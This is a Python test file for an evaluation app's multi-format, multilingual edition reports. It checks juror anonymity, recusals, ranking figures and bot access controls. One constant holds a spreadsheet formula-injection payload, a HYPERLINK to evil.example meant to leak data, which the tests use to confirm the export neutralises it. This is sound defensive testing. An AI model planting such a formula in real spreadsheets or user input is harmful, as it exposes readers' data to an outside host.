"""The edition report: four formats in four languages, jurors by letter only, formulas in a
juror's reason neutralised, the JSON figures those of the combined ranking; the command line
and /report."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from app import analysis, editions, evaluation, jury, publishing
from app.config import Settings
from app.jury import JuryError
from app.publishing import YEAR as PUBLISHED_YEAR
from app.reports import build_edition
from app.services import Services
from storage.uow import UnitOfWork
from tests.telegram_harness import running_bot
from tests.test_cli import auditbot, ok
from tests.test_editions import open_by_cli
from tests.test_jury import JURORS, NOW, PRACTICES, YEAR, jury_phase

FORMULA = '=HYPERLINK("https://evil.example/?leak","Read more")'
LOCALES = ("uk", "ru", "en", "pl")
JUROR_WORD = {"uk": "Член журі A", "ru": "Член жюри A", "en": "Juror A", "pl": "Juror A"}
STEPPED_ASIDE = {
    "uk": "не оцінювали: причетні до практики",
    "ru": "не оценивали: причастны к практике",
    "en": "stepped aside: involved with the practice",
    "pl": "bez oceny: związek z praktyką",
}


async def scored_and_closed(
    services: Services, before_close: Callable[[UnitOfWork], Awaitable[None]] | None = None
) -> None:
    """The jury of test_jury scores both practices (Juror A's first reason is a formula, Juror
    E steps aside from the second one), then (after `before_close`) the edition closes."""
    await jury_phase(services)
    first, second = PRACTICES
    async with services.db.unit_of_work() as uow:
        for user, value in zip(JURORS, (5, 4, 4, 5, 3), strict=True):
            for criterion in jury.CRITERIA:
                reason = (
                    FORMULA
                    if (user, criterion) == (JURORS[0], "engagement")
                    else (f"Reason {value} of juror number {JURORS.index(user) + 1}.")
                )
                await jury.score(uow, YEAR, user, first, criterion, value, reason, NOW)
        for user in JURORS[:4]:
            for criterion in jury.CRITERIA:
                await jury.score(uow, YEAR, user, second, criterion, 2, "Too small so far.", NOW)
        await jury.recuse(uow, YEAR, JURORS[4], second, NOW)
        if before_close is not None:
            await before_close(uow)
        await editions.close_edition(uow, "test", YEAR, NOW)


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def xlsx_texts(content: bytes) -> dict[str, list[list[object]]]:
    book = load_workbook(io.BytesIO(content))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in book.worksheets
    }


def no_juror_ids(text: str) -> None:
    for user in JURORS:
        assert str(user) not in text


async def test_each_format_in_each_language_names_jurors_by_letter_only(
    services: Services,
) -> None:
    await scored_and_closed(services)
    for locale in LOCALES:
        texts = {}
        for fmt in ("csv", "xlsx", "pdf", "json"):
            name, content = await build_edition(services, YEAR, fmt, locale)
            assert name == f"open-cities-edition-{YEAR}.{fmt}"
            if fmt == "csv":
                texts[fmt] = content.decode("utf-8-sig")
            elif fmt == "xlsx":
                texts[fmt] = json.dumps(xlsx_texts(content), ensure_ascii=False, default=str)
            elif fmt == "pdf":
                texts[fmt] = pdf_text(content)
            else:
                texts[fmt] = content.decode()
        for fmt, text in texts.items():
            no_juror_ids(text)
            for letter in "ABCDE":
                assert JUROR_WORD[locale].replace("A", letter) in text, (locale, fmt, letter)
            if fmt != "pdf":  # the PDF wraps long lines
                assert STEPPED_ASIDE[locale] in text or fmt == "json", (locale, fmt)
        # the residents' part of both rests on no one: "< 5" in place of figures, jury alone
        assert "< 5" in texts["csv"] and "< 5" in texts["pdf"]
        document = json.loads(texts["json"])
        assert document["locale"] == locale and document["reanalysis"] == []
        assert document["recusals"] == [
            {"practice_id": PRACTICES[1], "juror": JUROR_WORD[locale].replace("A", "E")}
        ]
        sheets = xlsx_texts((await build_edition(services, YEAR, "xlsx", locale))[1])
        assert len(sheets) == 5  # ranking, justifications, re-analysis, responses, method
    en_pdf = pdf_text((await build_edition(services, YEAR, "pdf", "en"))[1])
    assert "Krippendorff" in en_pdf and "60 % × jury part + 40 %" in en_pdf
    assert "No re-analysis verdicts are recorded for this edition." in en_pdf


async def test_a_formula_in_a_reason_is_neutralised_in_csv_and_xlsx(services: Services) -> None:
    await scored_and_closed(services)
    rows = list(
        csv.reader(io.StringIO((await build_edition(services, YEAR, "csv", "en"))[1].decode()))
    )
    header = rows[0]
    reasons = [row[header.index("Justification")] for row in rows[1:]]
    assert "'" + FORMULA in reasons and FORMULA not in reasons
    assert all(not r.startswith(("=", "+", "-", "@")) for r in reasons)
    book = load_workbook(io.BytesIO((await build_edition(services, YEAR, "xlsx", "en"))[1]))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells and all(c.value == "'" + FORMULA and c.data_type == "s" for c in cells)
    document = json.loads((await build_edition(services, YEAR, "json", "en"))[1])
    assert FORMULA in [j["text"] for j in document["justifications"]]  # JSON keeps it as data


async def test_the_json_figures_are_those_of_the_combined_ranking(services: Services) -> None:
    await scored_and_closed(services)
    document = json.loads((await build_edition(services, YEAR, "json", "pl"))[1])
    async with services.db.unit_of_work() as uow:
        ranking = await evaluation.combined_ranking(uow, YEAR, services.settings.tz, k=5)
    assert document["agreement"]["krippendorff_alpha_ordinal"] == pytest.approx(ranking.alpha)
    assert document["weights"] == {"jury": 60, "residents": 40}
    assert [c["category_id"] for c in document["categories"]] == list(ranking.by_category)
    for category in document["categories"]:
        expected = ranking.by_category[category["category_id"]]
        assert len(category["ranking"]) == len(expected)
        for shown, row in zip(category["ranking"], expected, strict=True):
            assert shown["practice_id"] == row.entry.practice_id
            assert (shown["rank"], shown["tied"], shown["jury_only"]) == (
                row.rank,
                row.tied,
                row.jury_only,
            )
            assert shown["combined"]["score"] == pytest.approx(row.combined.score)
            assert shown["combined"]["ci_low"] == pytest.approx(row.combined.ci_low)
            assert shown["combined"]["ci_high"] == pytest.approx(row.combined.ci_high)
            assert row.entry.jury is not None
            assert shown["jury"]["score"] == pytest.approx(row.entry.jury.score)
            assert shown["jury"]["n"] == row.entry.jury.n
            assert shown["residents"] is None and shown["residents_suppressed"]
    first = document["categories"][0]["ranking"]
    assert [r["jury"]["n"] for r in first] == [5, 4]  # Juror E stepped aside from the second
    assert first[0]["combined"]["score"] == pytest.approx((100 + 75 + 75 + 100 + 50) / 5)
    assert len(document["justifications"]) == 5 * 3 + 4 * 3


async def test_re_analysis_verdicts_and_the_cities_responses_are_in_the_report(
    services: Services,
) -> None:
    """A practice distinguished the year before has its verdict in the report; a city's
    approved response to the published results is in it, a rejected one never."""
    earlier = "gdansk-model-integracji-imigrantow"
    approved, rejected = f"{FORMULA} We extend the hours.", "Not for print."

    async def reanalyse(uow: UnitOfWork) -> None:
        practice = await uow.catalog.practice(earlier)
        assert practice is not None
        practice.distinguished_in = YEAR - 1
        await analysis.record_verdict(
            uow, "test", YEAR, earlier, "changed", "Fewer opening hours.", [], NOW
        )
        await uow.publications.add(PUBLISHED_YEAR, str(YEAR), "test", NOW)  # a future year
        for text, approve in ((approved, True), (rejected, False)):
            reply = await publishing.propose_reply(
                uow, "tg:7", None, PRACTICES[0], YEAR, "uk", text, NOW
            )
            await publishing.decide_reply(uow, "test", reply.id, approve, NOW)

    await scored_and_closed(services, reanalyse)
    document = json.loads((await build_edition(services, YEAR, "json", "en"))[1])
    assert [
        (r["practice_id"], r["distinguished_in"], r["verdict"], r["evidence"])
        for r in document["reanalysis"]
    ] == [(earlier, YEAR - 1, "changed", "Fewer opening hours.")]
    assert document["reanalysis"][0]["practice"] != earlier  # named, not by id
    assert document["reanalysis"][0]["residents"] is None  # nobody answered: below k
    assert [(r["practice_id"], r["texts"]) for r in document["replies"]] == [
        (PRACTICES[0], {"uk": approved})
    ]
    pdf = pdf_text((await build_edition(services, YEAR, "pdf", "uk"))[1])
    assert "Fewer opening hours." in pdf and "We extend the hours." in pdf
    assert rejected not in pdf
    sheets = xlsx_texts((await build_edition(services, YEAR, "xlsx", "pl"))[1])
    [responses] = [
        rows for title, rows in sheets.items() if any(approved in str(c) for r in rows for c in r)
    ]
    cell = next(c for r in responses for c in r if isinstance(c, str) and "extend" in c)
    assert not cell.startswith("=")  # the coordinator's formula reaches the sheet as text
    assert all(rejected not in str(c) for rows in sheets.values() for r in rows for c in r)


async def test_the_report_waits_for_the_jury_phase_to_close(services: Services) -> None:
    await jury_phase(services)
    with pytest.raises(JuryError, match="once the jury phase has closed"):
        await build_edition(services, YEAR, "pdf", "en")


def test_the_command_line_writes_the_edition_report(settings: Settings, tmp_path: Path) -> None:
    assert "Example: auditbot edition report" in ok(
        auditbot(settings, "edition", "report", "--help")
    )
    ok(open_by_cli(settings))
    out = tmp_path / "edition.json"
    early = auditbot(settings, "edition", "report", "--year", "2099", "--out", str(out))
    assert early.returncode == 2 and "once the jury phase has closed" in early.stderr
    ok(auditbot(settings, "edition", "close", "--year", "2099"))
    written = ok(
        auditbot(
            settings,
            *("edition", "report", "--year", "2099", "--format", "json"),
            *("--lang", "uk", "--out", str(out)),
        )
    )
    assert "open-cities-edition-2099.json" in written
    document = json.loads(out.read_text())
    assert (document["year"], document["categories"], document["reanalysis"]) == (2099, [], [])
    assert document["title"] == "Оцінювання 2099 року"
    unknown = auditbot(settings, "edition", "report", "--year", "2097", "--out", str(out))
    assert unknown.returncode == 2 and "2097" in unknown.stderr


async def test_report_in_the_bot_offers_the_edition_to_staff_of_every_city(
    database_url: str,
) -> None:
    async with running_bot(database_url) as bot:
        await scored_and_closed(bot.services)
        async with bot.services.db.unit_of_work() as uow:
            await uow.staff.put(6161, "coordinator", [])
            await uow.staff.put(6262, "coordinator", ["krakow"])
        national = bot.person("uk", user_id=6161)
        await national.send("/report")
        assert f"rp|e:{YEAR}" in str(national.user.last)
        await national.press(f"rp|e:{YEAR}")
        await national.press(f"rp|e:{YEAR}:csv")
        [document] = bot.server.calls_to("sendDocument")
        [upload] = document.files.values()
        text = upload.content.decode("utf-8-sig")
        assert JUROR_WORD["uk"] in text
        no_juror_ids(text)
        city = bot.person("en", user_id=6262)
        await city.send("/report")
        assert f"rp|e:{YEAR}" not in str(city.user.last)
        await city.press(f"rp|e:{YEAR}:pdf")  # a forged button
        assert len(bot.server.calls_to("sendDocument")) == 1
